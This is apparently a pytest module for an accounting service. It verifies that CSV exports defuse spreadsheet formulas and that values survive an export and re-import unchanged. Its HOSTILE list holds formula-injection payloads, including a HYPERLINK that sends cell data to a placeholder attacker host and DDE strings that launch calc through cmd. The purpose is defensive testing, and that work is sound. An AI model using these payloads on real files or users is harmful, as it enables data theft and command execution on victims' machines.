"""No formula leaves in a CSV file (tillbook issue 22, item 3; ``kit/csvcells.py``):
a name typed as ``=HYPERLINK(…)`` or ``@SUM(…)`` comes back in every CSV the service
writes with a ``'`` in front, money stays a number, and export → import gives back
every value exactly, through the admin API, the back office and the command line."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.admin_helpers import ADMIN, login
from tests.cli_run import cli_run  # noqa: F401 (fixture)
from tests.factories import Shop
from tests.invariants import check_books
from tests.web_helpers import OWNER_PASSWORD, owner_email, sign_in
from tillbook.catalog.import_export import COLUMNS as PRODUCT_COLUMNS
from tillbook.db import Database
from tillbook.kit.csvcells import neutral, restore
from tillbook.parties.import_export import COLUMNS as PARTY_COLUMNS
from tillbook.reports.ledgers import CSV_COLUMNS, csv_rows

# Names a till or a cashier may type, each one a formula in a spreadsheet (or a
# quote that must survive the escape).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals
    "'=already quoted",
    "''@twice quoted",
    "' =space then formula",
]
# Left exactly as they are.
HARMLESS = ["Anna Alder", "'plain quote", "-12", "-12.50", "12.50", "a=b", "O'Brien"]


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _is_inert(cell: str) -> bool:
    """What a spreadsheet evaluates: a first character of ``= + - @``, a tab or CR
    (or their full-width forms), unless the cell is a plain number."""
    if cell[:1] not in set("=+-@\t\r\n＝＋－＠"):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return all(c in "-.0123456789" for c in cell)


def test_the_rule_and_its_inverse() -> None:
    for value in HOSTILE:
        assert neutral(value) == "'" + value and restore(neutral(value)) == value
        assert _is_inert(neutral(value))
    for value in HARMLESS:
        assert neutral(value) == value and restore(value) == value
    # a hand-made file's own escape: '=1 is what a spreadsheet shows as =1
    assert restore("'=1") == "=1" and restore("''") == "''"


@given(st.text(alphabet=st.sampled_from("'= +-@\t\r\n＝1.a"), max_size=8) | st.text(max_size=8))
def test_export_then_import_is_exact_for_any_text(value: str) -> None:
    cell = neutral(value)
    assert restore(cell) == value
    assert _is_inert(cell)


async def test_ledger_csv_cells_are_neutral_and_money_stays_numbers() -> None:
    """The ledger and statement CSV (API, back office, command line share
    ``csv_rows``): a narration that starts like a formula is neutralised, a
    negative balance is not."""

    async def read_page(_cursor: str | None) -> dict[str, Any]:
        line = dict.fromkeys(CSV_COLUMNS, "")
        line.update(narration="=HYPERLINK(1)", debit="", credit="12.50", balance="-12.50")
        return {
            "date_from": "2024-01-01",
            "date_to": "2024-01-31",
            "opening_balance": "0.00",
            "closing_balance": "-12.50",
            "lines": [line],
            "next_cursor": None,
        }

    text = "".join([chunk async for chunk in csv_rows(read_page)])
    rows = _cells(text)
    assert rows[1]["narration"] == "'=HYPERLINK(1)"
    assert rows[1]["balance"] == "-12.50" and rows[-1]["balance"] == "-12.50"


def _party_file(codes_names: list[tuple[str, str]]) -> bytes:
    """A file as a spreadsheet saves it: a name that really starts with ``'=`` is
    written ``''=`` (what the spreadsheet shows as ``'=``); ``=…`` as typed."""
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["code", "name", "phone", "address", "opening_balance"])
    for code, name in codes_names:
        typed = name if name[:1] != "'" else neutral(name)
        w.writerow([code, typed, "+44 20 7946 0000", typed, "5.00" if code == "H0" else ""])
    return out.getvalue().encode()


async def _upload(client: httpx.AsyncClient, headers: dict[str, str], kind: str, data: bytes):
    return await client.post(
        f"{ADMIN}/import/{kind}", files={"file": (f"{kind}.csv", data, "text/csv")}, headers=headers
    )


@pytest.mark.parametrize("kind", ["customers", "suppliers"])
async def test_party_export_neutralises_and_round_trips(
    client: httpx.AsyncClient, db: Database, shop: Shop, kind: str
) -> None:
    h = await login(client, db, shop)
    names = [(f"H{i}", name) for i, name in enumerate(HOSTILE + HARMLESS)]
    r = await _upload(client, h, kind, _party_file(names))
    assert r.status_code == 200, r.text
    assert r.json()["data"]["created"] == len(names)

    r = await client.get(f"{ADMIN}/export/{kind}", headers=h)
    assert r.status_code == 200, r.text
    rows = {row["code"]: row for row in _cells(r.text)}
    assert list(_cells(r.text)[0]) == list(PARTY_COLUMNS)
    for code, name in names:
        row = rows[code]
        assert row["name"] == neutral(name) and row["address"] == neutral(name), row
        assert row["phone"] == "'+44 20 7946 0000"
        assert all(_is_inert(cell) for cell in row.values()), row
    for _code, name in names[: len(HOSTILE)]:
        assert neutral(name).startswith("'")
    # money stays a number a spreadsheet sums
    assert rows["H0"]["opening_balance"] == "5.00"

    # the export imports back to exactly the same records
    r = await _upload(client, h, kind, r.content)
    assert r.status_code == 200, r.text
    assert r.json()["data"] == {"created": 0, "updated": 0, "unchanged": len(names)}
    listed = await client.get(f"{ADMIN}/{kind}", params={"limit": 100}, headers=h)
    stored = {p["code"]: p["name"] for p in listed.json()["data"]["data"] if p["code"]}
    assert stored == dict(names)
    await check_books(db, shop.company_id)


def _product_file(names: list[str]) -> bytes:
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    w.writerow(["item_code", "name", "sales_price", "warehouse", "opening_stock", "opening_cost"])
    for i, name in enumerate(names):
        typed = name if name[:1] != "'" else neutral(name)
        w.writerow([f"=P{i}", typed, "2.00", "Main street", "3", "1.00"])
    return out.getvalue().encode()


async def test_product_export_and_stock_report_neutralise_and_round_trip(
    client: httpx.AsyncClient,
    db: Database,
    shop: Shop,
    web: httpx.AsyncClient,
) -> None:
    h = await login(client, db, shop)
    names = HOSTILE + HARMLESS
    r = await client.post(
        f"{ADMIN}/import/products",
        files={"file": ("products.csv", _product_file(names), "text/csv")},
        headers=h,
    )
    assert r.status_code == 200, r.text

    r = await client.get(f"{ADMIN}/export/products", headers=h)
    assert r.status_code == 200, r.text
    rows = {restore(row["item_code"]): row for row in _cells(r.text)}
    assert list(_cells(r.text)[0]) == list(PRODUCT_COLUMNS)
    for i, name in enumerate(names):
        row = rows[f"=P{i}"]
        assert row["item_code"] == f"'=P{i}" and row["name"] == neutral(name), row
        assert all(_is_inert(cell) for cell in row.values()), row
    r = await client.post(
        f"{ADMIN}/import/products",
        files={"file": ("products.csv", r.content, "text/csv")},
        headers=h,
    )
    assert r.status_code == 200, r.text
    assert r.json()["data"]["created"] == 0 and r.json()["data"]["updated"] == 0

    # the back office's reports as CSV: the stock valuation names the products
    await sign_in(web, await owner_email(db, shop), OWNER_PASSWORD)
    for report in ("stock-valuation", "trial-balance", "balance-sheet", "profit-loss"):
        got = await web.get(f"/reports?report={report}&format=csv")
        assert got.status_code == 200, report
        for cells in csv.reader(io.StringIO(got.text)):
            assert all(_is_inert(cell) for cell in cells), (report, cells)
    valuation = [
        cells[2]
        for cells in csv.reader(
            io.StringIO((await web.get("/reports?report=stock-valuation&format=csv")).text)
        )
    ]
    for name in names:
        assert neutral(name) in valuation
    await check_books(db, shop.company_id)


async def test_statement_and_ledger_downloads_are_inert(
    client: httpx.AsyncClient,
    db: Database,
    shop: Shop,
    web: httpx.AsyncClient,
) -> None:
    """Every ledger-shaped download, API and back office, for a customer named like a
    formula (the name is inside a narration there, never at its start)."""
    h = await login(client, db, shop)
    r = await _upload(client, h, "customers", _party_file([("H0", HOSTILE[0])]))
    assert r.status_code == 200, r.text
    listed = await client.get(f"{ADMIN}/customers", params={"search": "H0"}, headers=h)
    pid = listed.json()["data"]["data"][0]["id"]
    await sign_in(web, await owner_email(db, shop), OWNER_PASSWORD)
    for got in (
        await client.get(f"{ADMIN}/reports/statement?party_id={pid}&format=csv", headers=h),
        await client.get(f"{ADMIN}/reports/ledger?account=11500&format=csv", headers=h),
        await web.get(f"/customers/{pid}/statement?format=csv"),
        await web.get("/reports/ledger?account=11500&format=csv"),
    ):
        assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(got.text)))
        assert len(rows) >= 3
        for cells in rows:
            assert all(_is_inert(cell) for cell in cells), cells


async def test_cli_exports_neutralise_and_round_trip(
    client: httpx.AsyncClient,
    db: Database,
    shop: Shop,
    cli_run,  # noqa: F811
    tmp_path,
) -> None:
    company = str(shop.company_id)
    names = [(f"H{i}", name) for i, name in enumerate(HOSTILE + HARMLESS)]
    path = tmp_path / "in.csv"
    path.write_bytes(_party_file(names))
    r = cli_run("import", "customers", str(path), "--company", company, "--json")
    assert r.json()["created"] == len(names)
    exported = cli_run("export", "customers", "--company", company)
    rows = {row["code"]: row for row in _cells(exported.stdout)}
    for code, name in names:
        assert rows[code]["name"] == neutral(name)
        assert all(_is_inert(cell) for cell in rows[code].values())
    path.write_text(exported.stdout, encoding="utf-8")
    r = cli_run("import", "customers", str(path), "--company", company, "--json")
    assert r.json() == {"created": 0, "updated": 0, "unchanged": len(names)}

    path.write_bytes(_product_file(HOSTILE))
    cli_run("import", "products", str(path), "--company", company, "--json")
    products = cli_run("export", "products", "--company", company)
    got = {row["name"] for row in _cells(products.stdout)}
    assert {neutral(name) for name in HOSTILE} <= got
    for row in _cells(products.stdout):
        assert all(_is_inert(cell) for cell in row.values()), row
    statement = cli_run(
        "report", "statement", "--party", str(shop.customer_id), "--company", company, "--csv"
    )
    for cells in csv.reader(io.StringIO(statement.stdout)):
        assert all(_is_inert(cell) for cell in cells), cells
    await check_books(db, shop.company_id)
